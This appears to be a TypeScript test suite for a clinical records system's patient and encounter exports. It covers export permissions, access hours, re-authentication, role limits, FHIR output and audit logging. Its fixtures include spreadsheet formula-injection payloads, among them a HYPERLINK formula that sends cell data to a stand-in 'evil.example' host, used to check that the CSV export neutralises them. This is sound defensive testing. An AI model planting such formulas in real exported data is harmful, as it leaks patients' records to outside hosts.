import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import type { Kysely } from 'kysely';
import { v7 as uuidv7 } from 'uuid';
import type { Schema } from '../db/schema.ts';
import type { WardApp } from '../http/types.ts';
import { createInstitution } from '../identity/store.ts';
import { startWard, type RunningWard } from '../../test/harness.ts';
import { bearer, errorCode, signIn } from '../../test/sign-in.ts';
import { createTestUser, ownerDb } from '../../test/users.ts';
import { ageReauthentication, reauthenticate, stepUp } from '../auth/step-up/test-support.ts';
import {
  auditEventsOf,
  EXPORT_TEST_AGENT,
  eventually,
  grantExport,
  neutralised,
  parseCsv,
  signedInExporter,
  type Exporter,
} from './test-support.ts';

// Exports as an institution's staff and an attacker with a stolen session meet them: only with the
// export permission an administrator granted, only inside access hours, only within five minutes of
// confirming the password again; what comes out is exactly the database's rows (CSV a spreadsheet
// cannot be tricked by, FHIR R4 for other systems), clinical data only for clinicians and only for
// their own patients, and every export is in the audit trail with how many records left.

let ward: RunningWard;
let app: WardApp;
let db: Kysely<Schema>;

before(async () => {
  ward = await startWard();
  app = ward.server.app;
  db = ownerDb(ward.database.url);
});

after(async () => {
  await db.destroy();
  await ward.stop();
});

async function institution(timeZone = 'UTC'): Promise<string> {
  return (await createInstitution(db, { name: `Clinic ${randomBytes(4).toString('hex')}`, timeZone })).id;
}

interface PatientInput {
  identifierType?: string;
  identifierValue?: string;
  familyName: string;
  givenNames: string;
  birthDate: string;
  sex: 'female' | 'male' | 'other' | 'unknown';
  phone?: string | null;
  email?: string | null;
  address?: string | null;
}

/** Registers a patient through the API, as the registrar's screen does; returns its id. */
async function registerPatient(member: Exporter, input: PatientInput): Promise<string> {
  const response = await app.inject({
    method: 'POST',
    url: `/api/institutions/${member.institutionId}/patients`,
    headers: bearer(member.token),
    payload: {
      identifierType: 'national_id',
      identifierValue: `ID-${randomBytes(6).toString('hex')}`,
      ...input,
    },
  });
  assert.equal(response.statusCode, 201, response.body);
  return response.json<{ id: string }>().id;
}

/** An encounter written straight into the database, so its author and date can be chosen. */
async function insertEncounter(input: {
  institutionId: string;
  patientId: string;
  authorId: string;
  daysAgo: number;
}): Promise<string> {
  const id = uuidv7();
  await db
    .insertInto('ward.encounters')
    .values({
      institution_id: input.institutionId,
      id,
      patient_id: input.patientId,
      author_id: input.authorId,
      occurred_at: new Date(Date.now() - input.daysAgo * 86_400_000),
      type: 'emergency',
      reason: `Visit ${id}`,
    })
    .execute();
  return id;
}

/** The institution's patients as the database holds them, by id. */
async function storedPatients(
  institutionId: string,
): Promise<Map<string, Record<string, string | number | null>>> {
  const rows = await db
    .selectFrom('ward.patients')
    .select([
      'id',
      'identifier_type',
      'identifier_value',
      'family_name',
      'given_names',
      (eb) => eb.fn<string>('to_char', ['birth_date', eb.val('YYYY-MM-DD')]).as('birth_date'),
      'sex',
      'phone',
      'email',
      'address',
      'version',
      'updated_at',
    ])
    .where('institution_id', '=', institutionId)
    .execute();
  return new Map(rows.map(({ updated_at, ...r }) => [r.id, { ...r, updated_at: updated_at.toISOString() }]));
}

const CSV_COLUMNS = [
  'id',
  'identifier_type',
  'identifier_value',
  'family_name',
  'given_names',
  'birth_date',
  'sex',
  'phone',
  'email',
  'address',
  'version',
] as const;

describe('who may export', () => {
  test('a member without the export permission is refused, and the attempt is audited', async () => {
    const iid = await institution();
    const doctor = await signedInExporter(app, db, iid, ['doctor'], { canExport: false });
    // Even freshly re-authenticated: the permission is the administrator's decision, not the user's.
    await stepUp(app, doctor.token, doctor.user.password);
    for (const path of ['/exports/patients?format=csv', '/exports/encounters?format=ndjson']) {
      const response = await doctor.get(path);
      assert.equal(response.statusCode, 403, response.body);
      assert.equal(errorCode(response), 'export_not_permitted');
    }
    const denied = await auditEventsOf(db, 'export.denied', doctor.user.id);
    assert.equal(denied.length, 2);
    for (const event of denied) {
      assert.equal(event.outcome, 'denied');
      assert.equal(event.institution_id, iid);
      assert.equal(event.reason, 'no_export_permission');
      assert.equal(event.user_agent, EXPORT_TEST_AGENT);
    }

    // Withdrawing the permission applies to the very next request.
    const other = await signedInExporter(app, db, iid, ['administrative']);
    assert.equal((await other.get('/exports/patients?format=csv')).statusCode, 200);
    await grantExport(db, other.user.id, iid, false);
    assert.equal(errorCode(await other.get('/exports/patients?format=csv')), 'export_not_permitted');
  });

  test('outside access hours is refused, for the institution whose hours are closed', async () => {
    const open = await institution('UTC');
    const closed = await institution('UTC');
    const doctor = await signedInExporter(app, db, open, ['doctor']);
    await db
      .insertInto('ward.memberships')
      .values((eb) => ({
        institution_id: closed,
        user_id: doctor.user.id,
        roles: ['doctor'],
        export_permission: true,
        security_level_id: eb
          .selectFrom('ward.security_levels')
          .select('id')
          .where('institution_id', '=', closed)
          .where('name', '=', 'Standard'),
      }))
      .execute();
    const hour = new Date().getUTCHours();
    const later = `${String((hour + 3) % 24).padStart(2, '0')}:00`;
    const laterStill = `${String((hour + 4) % 24).padStart(2, '0')}:00`;
    await db
      .updateTable('ward.memberships')
      .set({
        access_hours: JSON.stringify({
          mode: 'within',
          windows: [{ days: [1, 2, 3, 4, 5, 6, 7], start: later, end: laterStill }],
        }),
      })
      .where('user_id', '=', doctor.user.id)
      .where('institution_id', '=', closed)
      .execute();

    const response = await app.inject({
      method: 'GET',
      url: `/api/institutions/${closed}/exports/patients?format=csv`,
      headers: bearer(doctor.token),
    });
    assert.equal(response.statusCode, 403, response.body);
    assert.equal(errorCode(response), 'outside_access_hours');
    assert.equal(
      (await doctor.get('/exports/patients?format=csv')).statusCode,
      200,
      'the open one still exports',
    );
  });

  test('needs a re-authentication within the last five minutes, of this session', async () => {
    const iid = await institution();
    const clerk = await signedInExporter(app, db, iid, ['administrative'], { canExport: false });
    await grantExport(db, clerk.user.id, iid);

    const fresh = await clerk.get('/exports/patients?format=ndjson');
    assert.equal(fresh.statusCode, 403, 'signing in is not enough');
    assert.equal(errorCode(fresh), 'reauthentication_required');

    const wrong = await reauthenticate(app, clerk.token, 'not the password, clearly');
    assert.equal(wrong.statusCode, 401, wrong.body);
    assert.equal(errorCode(wrong), 'invalid_credentials');
    assert.equal(errorCode(await clerk.get('/exports/patients?format=ndjson')), 'reauthentication_required');

    const confirmed = await reauthenticate(app, clerk.token, clerk.user.password);
    assert.equal(confirmed.statusCode, 200, confirmed.body);
    const validUntil = Date.parse(confirmed.json<{ validUntil: string }>().validUntil);
    assert.ok(Math.abs(validUntil - (Date.now() + 5 * 60_000)) < 30_000, 'valid for five minutes');
    assert.equal((await clerk.get('/exports/patients?format=ndjson')).statusCode, 200);

    // Another session of the same user (another device) has not re-authenticated.
    const elsewhere = await signIn(app, clerk.user);
    const other = await app.inject({
      method: 'GET',
      url: `/api/institutions/${iid}/exports/patients?format=ndjson`,
      headers: bearer(elsewhere.token),
    });
    assert.equal(errorCode(other), 'reauthentication_required');

    // Six minutes later, the door has closed again.
    await ageReauthentication(db, clerk.user.id, 6);
    const stale = await clerk.get('/exports/patients?format=ndjson');
    assert.equal(stale.statusCode, 403);
    assert.equal(errorCode(stale), 'reauthentication_required');
    await stepUp(app, clerk.token, clerk.user.password);
    assert.equal((await clerk.get('/exports/patients?format=ndjson')).statusCode, 200);
  });

  test('an administrative member may export patients but gets 403 on encounters', async () => {
    const iid = await institution();
    const clerk = await signedInExporter(app, db, iid, ['administrative']);
    assert.equal((await clerk.get('/exports/patients?format=csv')).statusCode, 200);
    for (const format of ['csv', 'ndjson']) {
      const response = await clerk.get(`/exports/encounters?format=${format}`);
      assert.equal(response.statusCode, 403, response.body);
      assert.equal(errorCode(response), 'forbidden');
    }
    // Not asked to re-authenticate for something the role can never do.
    await ageReauthentication(db, clerk.user.id, 10);
    assert.equal(errorCode(await clerk.get('/exports/encounters?format=csv')), 'forbidden');
  });
});

describe('what an export contains', () => {
  let iid: string;
  let doctor: Exporter;

  before(async () => {
    iid = await institution('Europe/Madrid');
    doctor = await signedInExporter(app, db, iid, ['doctor']);
    const awkward: PatientInput[] = [
      { familyName: 'García López', givenNames: 'José María', birthDate: '1950-02-28', sex: 'male' },
      { familyName: 'O"Neil, Jr.', givenNames: 'Anne\nMarie', birthDate: '2001-12-31', sex: 'female' },
      {
        familyName: 'Nguyễn',
        givenNames: 'Thị  Mai',
        birthDate: '1999-01-01',
        sex: 'other',
        phone: '+84 28 3822 1234',
        email: 'mai@example.org',
        address: "Rue de l'Église 3,\r\n75001 Paris",
      },
      {
        familyName: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        givenNames: '+cmd',
        birthDate: '1970-07-07',
        sex: 'unknown',
      },
      {
        familyName: '-2+3',
        givenNames: '@SUM(A1:A9)',
        birthDate: '1980-08-08',
        sex: 'female',
        address: '\tTabbed',
      },
      { familyName: 'Plain', givenNames: 'Person', birthDate: '1965-03-03', sex: 'male', phone: null },
    ];
    for (const patient of awkward) await registerPatient(doctor, patient);
    // Another institution's patient, which must never appear.
    const elsewhere = await signedInExporter(app, db, await institution(), ['doctor'], { canExport: false });
    await registerPatient(elsewhere, {
      familyName: 'Elsewhere',
      givenNames: 'Never',
      birthDate: '1990-01-01',
      sex: 'male',
    });
  });

  test('CSV parsed back equals the patients rows, with formulas defused', async () => {
    const response = await doctor.get('/exports/patients?format=csv');
    assert.equal(response.statusCode, 200, response.body);
    assert.match(String(response.headers['content-type']), /^text\/csv; charset=utf-8/);
    assert.match(String(response.headers['content-disposition']), /^attachment; filename="patients\.csv"$/);
    assert.match(String(response.headers['cache-control']), /no-store/);

    const [header, ...records] = parseCsv(response.body);
    assert.deepEqual(header, [...CSV_COLUMNS]);
    const stored = await storedPatients(iid);
    assert.equal(records.length, stored.size);
    for (const record of records) {
      const row = stored.get(record[0] ?? '');
      assert.ok(row, `exported patient ${String(record[0])} is one of this institution's`);
      assert.deepEqual(
        record,
        CSV_COLUMNS.map((column) => neutralised(row[column] === null ? '' : String(row[column]))),
      );
    }
    assert.deepEqual(new Set(records.map((r) => r[0])), new Set(stored.keys()));
  });

  test('a field starting with = + - @ or a tab cannot run as a formula in a spreadsheet', async () => {
    const response = await doctor.get('/exports/patients?format=csv');
    const records = parseCsv(response.body).slice(1);
    const fields = records.flat();
    for (const field of fields) assert.doesNotMatch(field, /^[=+\-@\t\r]/, `field ${JSON.stringify(field)}`);
    const formula = records.find((r) => r[3]?.includes('HYPERLINK'));
    assert.deepEqual(formula?.slice(3, 5), ['\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'+cmd"]);
    const sum = records.find((r) => r[4]?.includes('SUM'));
    assert.deepEqual([sum?.[3], sum?.[4], sum?.[9]], ["'-2+3", "'@SUM(A1:A9)", "'\tTabbed"]);
    // Ordinary values are left alone: the neutralisation does not touch a value in the middle.
    assert.ok(fields.includes('García López'));
  });

  test('NDJSON lines are FHIR R4 Patient resources matching the rows', async () => {
    const response = await doctor.get('/exports/patients?format=ndjson');
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.headers['content-type'], 'application/fhir+ndjson');
    assert.ok(response.body.endsWith('\n'));
    const lines = response.body.slice(0, -1).split('\n');
    const stored = await storedPatients(iid);
    assert.equal(lines.length, stored.size);
    for (const line of lines) {
      const resource = JSON.parse(line) as {
        resourceType: string;
        id: string;
        meta: { versionId: string; lastUpdated: string };
        identifier: { type: { text: string }; value: string }[];
        name: { family: string; given: string[] }[];
        gender: string;
        birthDate: string;
        telecom?: { system: string; value: string }[];
        address?: { text: string }[];
      };
      const row = stored.get(resource.id);
      assert.ok(row, `resource ${resource.id} is one of this institution's patients`);
      assert.equal(resource.resourceType, 'Patient');
      assert.match(resource.id, /^[A-Za-z0-9\-.]{1,64}$/, 'a FHIR id');
      assert.deepEqual(resource.meta, { versionId: String(row.version), lastUpdated: row.updated_at });
      assert.deepEqual(resource.identifier, [
        { type: { text: row.identifier_type }, value: row.identifier_value },
      ]);
      assert.equal(resource.name[0]?.family, row.family_name);
      assert.deepEqual(resource.name[0]?.given, String(row.given_names).split(/\s+/));
      assert.ok(['male', 'female', 'other', 'unknown'].includes(resource.gender));
      assert.equal(resource.gender, row.sex);
      assert.match(resource.birthDate, /^\d{4}-\d{2}-\d{2}$/);
      assert.equal(resource.birthDate, row.birth_date);
      const telecom = [
        ...(row.phone === null ? [] : [{ system: 'phone', value: row.phone }]),
        ...(row.email === null ? [] : [{ system: 'email', value: row.email }]),
      ];
      assert.deepEqual(resource.telecom ?? [], telecom);
      assert.deepEqual(resource.address ?? [], row.address === null ? [] : [{ text: row.address }]);
    }
  });

  test('filters by name and birth date, and the audit keeps the count, not the name searched', async () => {
    const response = await doctor.get(
      '/exports/patients?format=csv&q=garc&birthDateFrom=1950-01-01&birthDateTo=1960-01-01',
    );
    assert.equal(response.statusCode, 200, response.body);
    const records = parseCsv(response.body).slice(1);
    assert.deepEqual(
      records.map((r) => r[3]),
      ['García López'],
    );
    const none = await doctor.get('/exports/patients?format=csv&q=garc&birthDateFrom=1951-01-01');
    assert.equal(parseCsv(none.body).length, 1, 'just the header');

    const events = await auditEventsOf(db, 'export.patients', doctor.user.id);
    const filtered = events.find(
      (e) => (e.details as { filter?: { birthDateFrom?: string } }).filter?.birthDateFrom === '1950-01-01',
    );
    assert.ok(filtered);
    assert.deepEqual(filtered.details, {
      format: 'csv',
      records: 1,
      completed: true,
      filter: { q: '4 chars', birthDateFrom: '1950-01-01', birthDateTo: '1960-01-01' },
    });
    assert.doesNotMatch(JSON.stringify(events), /garc/i, 'what was searched for stays out of the trail');
  });

  test('is audited with the format and the number of records', async () => {
    const before = (await auditEventsOf(db, 'export.patients', doctor.user.id)).length;
    const response = await doctor.get('/exports/patients?format=ndjson');
    assert.equal(response.statusCode, 200);
    const count = response.body.trim().split('\n').length;
    const events = await eventually(async () => {
      const all = await auditEventsOf(db, 'export.patients', doctor.user.id);
      return all.length > before ? all : undefined;
    });
    const event = events[events.length - 1];
    assert.equal(event?.outcome, 'success');
    assert.equal(event.institution_id, iid);
    assert.equal(event.user_agent, EXPORT_TEST_AGENT);
    assert.deepEqual(event.details, { format: 'ndjson', records: count, completed: true, filter: {} });
    assert.equal(count, (await storedPatients(iid)).size);
  });
});

describe('encounters export', () => {
  test('gives a clinician only the encounters of patients they have a care relationship with or justified access to', async () => {
    const iid = await institution();
    const doctor = await signedInExporter(app, db, iid, ['doctor']);
    const colleague = await createTestUser(db, { institution: iid, roles: ['doctor'] });
    const patient = (name: string) =>
      registerPatient(doctor, {
        familyName: name,
        givenNames: 'Test',
        birthDate: '1960-06-06',
        sex: 'unknown',
      });
    const [mine, justified, theirs, lapsed] = [
      await patient('Mine'),
      await patient('Justified'),
      await patient('Theirs'),
      await patient('Lapsed'),
    ];
    const expected = [
      await insertEncounter({ institutionId: iid, patientId: mine, authorId: doctor.user.id, daysAgo: 2 }),
      // A colleague's encounter with my patient: the relationship is with the patient.
      await insertEncounter({ institutionId: iid, patientId: mine, authorId: colleague.id, daysAgo: 100 }),
      await insertEncounter({ institutionId: iid, patientId: justified, authorId: colleague.id, daysAgo: 1 }),
    ];
    const hidden = [
      await insertEncounter({ institutionId: iid, patientId: theirs, authorId: colleague.id, daysAgo: 1 }),
      // My own visit, but too long ago to be a care relationship now (30 days by default).
      await insertEncounter({ institutionId: iid, patientId: lapsed, authorId: doctor.user.id, daysAgo: 45 }),
    ];
    const justification = await app.inject({
      method: 'POST',
      url: `/api/institutions/${iid}/patients/${justified}/access`,
      headers: bearer(doctor.token),
      payload: { reason: 'emergency', detail: 'Arrived unconscious' },
    });
    assert.equal(justification.statusCode, 201, justification.body);

    const ndjson = await doctor.get('/exports/encounters?format=ndjson');
    assert.equal(ndjson.statusCode, 200, ndjson.body);
    const resources = ndjson.body
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { resourceType: string; id: string; subject: { reference: string } });
    assert.deepEqual(resources.map((r) => r.id).sort(), [...expected].sort());
    for (const r of resources) assert.equal(r.resourceType, 'Encounter');
    assert.ok(!resources.some((r) => hidden.includes(r.id)));
    assert.deepEqual(
      new Set(resources.map((r) => r.subject.reference)),
      new Set([`Patient/${mine}`, `Patient/${justified}`]),
    );

    const csv = await doctor.get('/exports/encounters?format=csv');
    const [header, ...rows] = parseCsv(csv.body);
    assert.deepEqual(header, ['id', 'patient_id', 'occurred_at', 'type', 'reason', 'author_id']);
    assert.deepEqual(rows.map((r) => r[0]).sort(), [...expected].sort());

    const events = await auditEventsOf(db, 'export.encounters', doctor.user.id);
    assert.deepEqual(
      events.map((e) => (e.details as { records: number }).records),
      [3, 3],
    );
  });
});
